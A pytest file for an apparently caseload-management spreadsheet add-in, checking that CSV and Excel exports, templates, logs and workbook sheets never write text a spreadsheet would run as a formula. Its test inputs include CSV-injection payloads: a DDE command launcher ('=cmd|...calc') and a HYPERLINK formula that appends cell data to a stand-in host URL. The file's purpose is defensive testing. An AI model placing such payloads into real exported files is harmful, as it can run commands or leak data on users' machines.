"""Text that a spreadsheet would take for a formula is written as text, by everything that writes (SPEC 7)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import date
from itertools import product
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from sqlalchemy import update

from addin.book import DATA, Book
from addin.buttons.export import export_rows
from addin.hosts.closed.file import ClosedBook
from addin.hosts.desk import commit, take_picture
from addin.rows import cells, own_sheets
from addin.rows.data_sheet import read_data
from server.records.database import open_database, writing
from server.records.tables import programs, staff
from tests.support.command import caseload_server
from workbook.columns import RELATIONSHIP, STATUS, TemplateChoice, template_headers
from workbook.layout import FORMULA_SIGNS, no_formula
from workbook.lists import ListedProgram, ListedStaff, TemplateLists
from workbook.report import RememberedFix, Report
from workbook.sheets.fix_sheet import lay_out_fixes
from workbook.sheets.log_sheet import log_csv, log_xlsx
from workbook.sheets.macro_book import build_macro_template
from workbook.sheets.marked_sheet import MarkedSheet
from workbook.sheets.marks import lay_out_marks
from workbook.sheets.template import build_csv, build_filled, build_template
from workbook.upload import LogRow, Progress, Upload
from workbook.upload_state import UploadState

TEXTS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    '=HYPERLINK("http://example.test?"&A1)', "=cmd|' /C calc'!A0",
    'A;"=1+1;B', '"=1+1', 'A\t"" "@SUM(A1)',
    "A;=cmd|' /C calc'!A0", 'A, "B"; +1+1', "A\t@SUM(A1)", "A\n=1+1", 'A, "\n-1+1',
)  # fmt: skip

HEADERS = ["Update or Insert", "Participant ID", "Case Number", "Program Name", "Caseworker Name", "Start Date"]
OUR_LINK = re.compile(r"=HYPERLINK\(\"#'Caseload'!A\d+\",\d+\)")
"""The one formula that we write: from Fix Errors to a row."""
Cells = list[tuple[Any, bool]]
"""Each cell of what was written, and whether a spreadsheet will take it for text."""


def of_csv(content: bytes) -> Cells:
    """As it is read with the comma, the semicolon and the tab: which of them separates is the reader's setting. Some
    readers drop further quotation marks at the beginning of a cell."""
    text = content.decode("utf-8-sig")
    cells = [cell for mark in ",;\t" for line in csv.reader(io.StringIO(text, None), delimiter=mark) for cell in line]
    return [(cell, not cell.lstrip(' "').startswith(FORMULA_SIGNS)) for cell in cells]


def of_workbook(content: bytes | Path) -> Cells:
    book = openpyxl.load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    return [
        (unescape(cell.value), cell.data_type == "s" and (cell.number_format == "@" or bool(cell.quotePrefix)))
        for page in book.worksheets
        for line in page.iter_rows()
        for cell in line
        if isinstance(cell.value, str)
        and unescape(cell.value).startswith(FORMULA_SIGNS)
        and not OUR_LINK.fullmatch(cell.value)
    ]


def upload(text: str) -> Upload:
    return Upload(
        id="u1", number=1, filename=text, state=UploadState.COMPLETE, received=1, accepted=1, left_out=0,
        progress=Progress(done=1, total=1), submitted_by=text, submitted_at="2026-03-04T05:06:07.000Z", reason=text,
        finished_at=None,
    )  # fmt: skip


def log(text: str) -> list[LogRow]:
    return [LogRow(row=2, action=text, result=text, record_id=1, message=text, before=text, after=text)]


def lists(text: str) -> TemplateLists:
    return TemplateLists(
        site=text,
        programs=[ListedProgram(text, text)],
        staff=[ListedStaff(text, text, text)],
        feeder={RELATIONSHIP: [text], STATUS: [text]},
    )


def exported(text: str, folder: Path, kind: str) -> bytes:
    row = ["Insert", text, text, text, text, date(2026, 1, 2)]
    return export_rows(HEADERS, {2: row}, folder, kind, "MDY").files[0].read_bytes()


CHOICE = TemplateChoice()
FILES: dict[str, Callable[[str, Path], Cells]] = {
    "log .csv": lambda text, _: of_csv(log_csv(upload(text), log(text))),
    "log .xlsx": lambda text, _: of_workbook(log_xlsx(upload(text), log(text))),
    "template .csv": lambda text, _: of_csv(build_csv(CHOICE, lists(text))),
    "template .xlsx": lambda text, _: of_workbook(build_template(CHOICE, lists(text))),
    "template .xlsm": lambda text, _: of_workbook(build_macro_template(CHOICE, lists(text))),
    "filled template": lambda text, _: of_workbook(
        build_filled(CHOICE, lists(text), [[text] * len(template_headers(CHOICE, lists(text).demographics))])
    ),
    "export .csv": lambda text, folder: of_csv(exported(text, folder, "csv")),
    "export .xlsx": lambda text, folder: of_workbook(exported(text, folder, "xlsx")),
}


@pytest.mark.parametrize("writer", FILES)
def test_no_file_holds_a_text_that_a_spreadsheet_runs(writer: str, tmp_path: Path) -> None:
    many = list(TEXTS) if "csv" in writer else [text for text in TEXTS if text.startswith(FORMULA_SIGNS)]
    many = many if "csv" in writer or writer.startswith("log") else many[:4]
    for number, text in enumerate(many):
        cells = FILES[writer](text, tmp_path / str(number))
        assert [cell for cell, harmless in cells if not harmless] == []
        letters = re.sub(r"[^0-9A-Za-z]", "", text)
        assert any(letters in re.sub(r"[^0-9A-Za-z]", "", str(cell)) for cell, _ in cells), "and it is there still"


def test_no_text_of_separators_and_quotation_marks_becomes_a_formula_wherever_it_is_cut() -> None:
    found = []
    for letters in product('=";\t\n x', repeat=4):
        text, file = "".join(letters), io.StringIO()
        csv.writer(file).writerow([no_formula(cell) for cell in ("2", text, "z")])
        found += [(text, cell) for cell, harmless in of_csv(file.getvalue().encode()) if cell.strip() and not harmless]
    assert found == []


def test_sample_rows_of_a_site_with_such_names_hold_none_either(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'caseload.db'}"
    environment = {"CASELOAD_DATABASE_URL": url, "CASELOAD_SECRET_KEY": "a key for tests alone"}
    assert caseload_server(environment, "sample", "--participants", 20)[0] == 0
    engine = open_database(url)
    with writing(engine) as connection:
        connection.execute(update(staff).values(first_name="A;=cmd|' /C calc'!A0", last_name=staff.c.staff_id))
        connection.execute(update(programs).values(name="=1+1;" + programs.c.program_id))
    engine.dispose()
    assert caseload_server(environment, "sample-rows", tmp_path / "rows.csv", "--rows", 10, "--mistakes", 0)[0] == 0
    cells = of_csv((tmp_path / "rows.csv").read_bytes())
    assert [cell for cell, harmless in cells if not harmless] == []
    assert any("cmd" in str(cell) for cell, _harmless in cells)


REPORT = {
    "counts": {"rows": 1, "valid": 0, "errors": 1, "warnings": 0},
    "preview": {"inserts": 0, "updates": 0, "enrollments_begun": 0, "enrollments_ended": 0, "caseloads": []},
}


def report(text: str) -> Report:
    problem = {"row": 2, "column": "Case Number", "code": "unknown-value", "severity": "error", "value": text}
    suggestion = {"value": text, "label": text, "score": 1.0}
    group = {"column": "Case Number", "value": text, "code": "unknown-value", "count": 1, "rows": [2]}
    return Report.model_validate(
        REPORT | {"problems": [problem | {"message": text}], "fixes": [group | {"suggestions": [suggestion]}]}
    )


def remembered(text: str) -> RememberedFix:
    named = dict.fromkeys(RememberedFix.model_fields, text)
    return RememberedFix.model_validate(named | {"at": "2026-02-03T04:05:06.000Z", "corrected": ""})


SHEETS: dict[str, Callable[[Book, str], None]] = {
    "cells": lambda book, text: cells.write_cells(read_data(book), {(2, 3): text, (3, 4): text}),
    "rows": lambda book, text: cells.write_rows(read_data(book), {4: ["Insert", text, text, text, text, None]}),
    "marks": lambda book, text: own_sheets.write_marks(
        book, read_data(book), lay_out_marks(report(text), MarkedSheet(HEADERS, [2], first_row=2))
    ),
    "Fix Errors": lambda book, text: own_sheets.write_fix_sheet(book, lay_out_fixes(report(text))),
    "Log": lambda book, text: own_sheets.write_log(book, upload(text), log(text), [upload(text)]),
    "Fixes Made": lambda book, text: own_sheets.add_fixes_made(book, [(text, 2, text, text, text)]),
    "Remembered": lambda book, text: own_sheets.write_remembered(book, [remembered(text)], "MDY"),
    "what the workbook knows": lambda book, text: own_sheets.write_meta(book, site=text),
}


def test_nothing_that_a_button_writes_into_a_workbook_is_a_formula(tmp_path: Path) -> None:
    """In a workbook of the user's own, whose sheets the add-in makes itself: a cell is formatted as text first."""
    path = tmp_path / "own.xlsx"
    made = openpyxl.Workbook()
    made.worksheets[0].append(HEADERS)
    made.worksheets[0].append(["Insert", "P1"])
    made.save(path)
    file = ClosedBook(path)
    book = Book(take_picture(file, (DATA,)))
    for number, write in enumerate(SHEETS.values()):
        write(book, TEXTS[number % 4])
    commit(file, book)
    file.save()
    file.close()
    found = of_workbook(path)
    assert len(found) > len(SHEETS)
    assert [cell for cell, harmless in found if not harmless] == []
